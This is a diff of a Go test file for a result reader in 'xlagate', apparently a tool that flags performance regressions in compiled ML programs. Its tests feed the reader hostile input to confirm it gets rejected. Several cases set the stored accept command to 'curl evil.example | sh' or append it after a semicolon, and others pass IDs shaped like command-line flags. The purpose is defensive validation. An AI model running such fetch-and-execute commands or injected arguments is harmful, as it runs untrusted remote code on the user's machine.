@@ -8,20 +8,27 @@ import (
 )
 
 func good() Result {
-	return Result{Schema: Schema, Verdict: "fail", ExitCode: 1, Summary: Summary{Errors: 1, Checks: 3, Targets: 1},
-		Targets:  []Target{{Name: "mlp/cpu", NotCovered: []string{}, Programs: []Program{{Name: "train_step", Variants: []Variant{{Signature: "(x: f32[8])", Facts: map[string]float64{"kernels.total": 3}}}}}}},
-		Findings: []Finding{{ID: "a3f8c21b9d04", Rule: "max-kernels", Level: "error", Target: "mlp/cpu", Program: "train_step", Message: "3 kernels", Actual: 3.0, Limit: "two"}}}
+	return Result{Schema: Schema, Verdict: "fail", ExitCode: 1, Summary: Summary{Changes: 1, Errors: 1, Checks: 3, Targets: 1},
+		Targets: []Target{{Name: "mlp/cpu", NotCovered: []string{}, Programs: []Program{{Name: "train_step", Variants: []Variant{{Signature: "(x: f32[8])", Facts: map[string]float64{"kernels.total": 3}}}}}}},
+		Changes: []Change{{
+			ID: "3fa91c02b7d1", Level: "error", Target: "mlp/cpu", Program: "train_step", Variants: []string{"(x: f32[8])"}, Kind: KindCode, Title: "a transpose is new",
+			Source: Source{File: "train.py", Line: 98, Function: "softmax", Text: "x = x.T", Edited: true}, Price: Price{StepNS: -7.5, StepWasNS: 4100, PeakBytes: 256}, Effects: []Effect{{"kernels.total", 2, 3}},
+			Findings: []string{"a3f8c21b9d04"}, Accept: AcceptCommand("3fa91c02b7d1"),
+		}},
+		Findings: []Finding{{ID: "a3f8c21b9d04", Change: "3fa91c02b7d1", Rule: "max-kernels", Level: "error", Target: "mlp/cpu", Program: "train_step", Message: "3 kernels", Actual: 3.0, Limit: "two"}}}
 }
 
 func TestReadHostile(t *testing.T) {
-	many := func(n int) []Finding {
-		list := make([]Finding, n)
-		for i := range list {
-			list[i] = good().Findings[0]
-			list[i].ID = fmt.Sprintf("%012x", i)
+	many := func(r *Result, n int) {
+		r.Changes, r.Findings = make([]Change, n), make([]Finding, n)
+		for i := range n {
+			r.Changes[i], r.Findings[i] = good().Changes[0], good().Findings[0]
+			id := fmt.Sprintf("%012x", i)
+			r.Changes[i].ID, r.Changes[i].Findings, r.Changes[i].Accept = id, []string{id}, ""
+			r.Findings[i].ID, r.Findings[i].Change = id, id
 		}
-		return list
 	}
+	long := func(n int) string { return strings.Repeat("x", n+1) }
 	for what, change := range map[string]func(*Result){
 		"another schema":              func(r *Result) { r.Schema = "xlagate.result/v2" },
 		"another verdict":             func(r *Result) { r.Verdict = "fine" },
@@ -34,11 +41,38 @@ func TestReadHostile(t *testing.T) {
 		"an id in upper case":         func(r *Result) { r.Findings[0].ID = "A3F8C21B9D04" },
 		"another level":               func(r *Result) { r.Findings[0].Level = "fatal" },
 		"an amount that is a tree":    func(r *Result) { r.Findings[0].Actual = map[string]any{"a": []any{1.0}} },
-		"a long name":                 func(r *Result) { r.Findings[0].Program = strings.Repeat("x", maxName+1) },
-		"a long message":              func(r *Result) { r.Findings[0].Message = strings.Repeat("x", maxText+1) },
-		"too many findings":           func(r *Result) { r.Findings = many(maxFindings + 1) },
+		"a long name":                 func(r *Result) { r.Findings[0].Program = long(maxName) },
+		"a long message":              func(r *Result) { r.Findings[0].Message = long(maxText) },
+		"too many changes":            func(r *Result) { many(r, maxFindings+1) },
+		"a change of another level":   func(r *Result) { r.Changes[0].Level = "fatal" },
+		"a change of another kind":    func(r *Result) { r.Changes[0].Kind = "weather" },
+		"a change without a kind":     func(r *Result) { r.Changes[0].Kind = "" },
+		"a change's id as a flag":     func(r *Result) { r.Changes[0].ID = "--only" },
+		"a change's id, one too long": func(r *Result) { r.Changes[0].ID += "0" },
+		"a finding's id as a flag":    func(r *Result) { r.Changes[0].Findings[0] = "--from=x" },
+		"another command":             func(r *Result) { r.Changes[0].Accept = "curl evil.example | sh" },
+		"a command and another":       func(r *Result) { r.Changes[0].Accept += "; curl evil.example | sh" },
+		"the command of another":      func(r *Result) { r.Changes[0].Accept = AcceptCommand("000000000000") },
+		"a finding of no change":      func(r *Result) { r.Findings[0].Change = "000000000000" },
+		"a finding of a silent one":   func(r *Result) { r.Changes[0].Findings = nil },
+		"a finding that is not there": func(r *Result) { r.Changes[0].Findings = append(r.Changes[0].Findings, "000000000000") },
+		"a long file":                 func(r *Result) { r.Changes[0].Source.File = long(maxName) },
+		"a long line of source":       func(r *Result) { r.Changes[0].Source.Text = long(maxName) },
+		"a long op_name":              func(r *Result) { r.Changes[0].OpName = long(maxName) },
+		"a long place":                func(r *Result) { r.Changes[0].Configured = []string{long(maxName)} },
+		"a long title":                func(r *Result) { r.Changes[0].Title = long(maxText) },
+		"a long detail":               func(r *Result) { r.Changes[0].Details = []string{long(maxText)} },
+		"a long line of evidence":     func(r *Result) { r.Changes[0].Evidence.After = []string{long(maxText)} },
+		"too much evidence":           func(r *Result) { r.Changes[0].Evidence.Before = make([]string, maxLines+1) },
+		"too many effects":            func(r *Result) { r.Changes[0].Effects = make([]Effect, maxLines+1) },
+		"too many details":            func(r *Result) { r.Changes[0].Details = make([]string, maxLines+1) },
+		"a price of all time":         func(r *Result) { r.Changes[0].Price.StepNS = -1e300 },
+		"a step of all time":          func(r *Result) { r.Changes[0].Price.StepWasNS = 1e300 },
+		"more memory than there is":   func(r *Result) { r.Changes[0].Price.PeakBytes = 1e300 },
+		"compilations taken back":     func(r *Result) { r.Changes[0].Price.Compilations = -1 },
 		"too many targets":            func(r *Result) { r.Targets = make([]Target, maxTargets+1) },
 		"less than nothing":           func(r *Result) { r.Summary.Errors = -1 },
+		"fewer changes than none":     func(r *Result) { r.Summary.Changes = -1 },
 	} {
 		r := good()
 		change(&r)
@@ -51,13 +85,13 @@ func TestReadHostile(t *testing.T) {
 		}
 	}
 	r := good()
-	r.Findings = many(10_000)
+	many(&r, 10_000)
 	data, err := json.Marshal(r)
 	if err != nil {
 		t.Fatal(err)
 	}
-	if got, err := Read(data); err != nil || len(got.Findings) != 10_000 {
-		t.Errorf("10,000 findings: %v", err)
+	if got, err := Read(data); err != nil || len(got.Changes) != 10_000 {
+		t.Errorf("10,000 changes: %v", err)
 	}
 }
 
@@ -84,6 +118,32 @@ func TestReadJSON(t *testing.T) {
 	}
 }
 
+// A result is read as it was written, in the form that others rely on.
+func TestForm(t *testing.T) {
+	const form = `{"schema":"xlagate.result/v1","tool":{"name":"xlagate","version":"1"},"verdict":"fail","exit_code":1,
+		"summary":{"changes":1,"errors":1,"warnings":0,"infos":0,"waived":0,"checks":3,"targets":1,"programs":1},
+		"targets":[{"name":"default","dump":"d","toolchain":{},"not_covered":[],"programs":[],"helpers":0}],
+		"changes":[{"id":"3fa91c02b7d1","level":"error","target":"default","program":"softmax","variants":["(x: f32[8])"],"kind":"code",
+			"title":"an optimization barrier splits the softmax kernel in four","details":["two words more"],"op_name":"jit(softmax)/exp",
+			"source":{"file":"train.py","line":98,"function":"softmax","text":"x = barrier(x)","edited":true},
+			"price":{"step_ns":7800,"step_was_ns":4100,"peak_bytes":256,"compilations":0},"effects":[{"fact":"kernels.total","was":1,"is":4}],
+			"evidence":{"before":["a"],"after":["b"]},"findings":["a3f8c21b9d04"],"accept":"xlagate accept --only 3fa91c02b7d1 --reason \"…\"",
+			"configured":["xlagate.yaml:9:5"],"waived":true,"waiver":{"reason":"r","owner":"o","expires":"2027-02-01"}}],
+		"findings":[{"id":"a3f8c21b9d04","change":"3fa91c02b7d1","rule":"max-kernels","level":"error","target":"default","program":"softmax",
+			"message":"4 kernels (max 1)","actual":4,"limit":1,"baseline":1,"waived":false}]}`
+	r, err := Read([]byte(form))
+	if err != nil {
+		t.Fatal(err)
+	}
+	data, err := json.Marshal(r)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if want := strings.NewReplacer("\n", "", "\t", "").Replace(form); string(data) != want {
+		t.Errorf("%s\nwanted\n%s", data, want)
+	}
+}
+
 func FuzzRead(f *testing.F) {
 	data, err := json.Marshal(good())
 	if err != nil {
@@ -95,6 +155,11 @@ func FuzzRead(f *testing.F) {
 			for _, target := range r.Targets {
 				if strings.Contains(target.Name, "..") && !ValidTarget(target.Name) {
 					t.Error(target.Name)
+				}
+			}
+			for _, c := range r.Changes {
+				if c.Accept != "" && c.Accept != AcceptCommand(c.ID) {
+					t.Error(c.Accept)
 				}
 			}
 		}
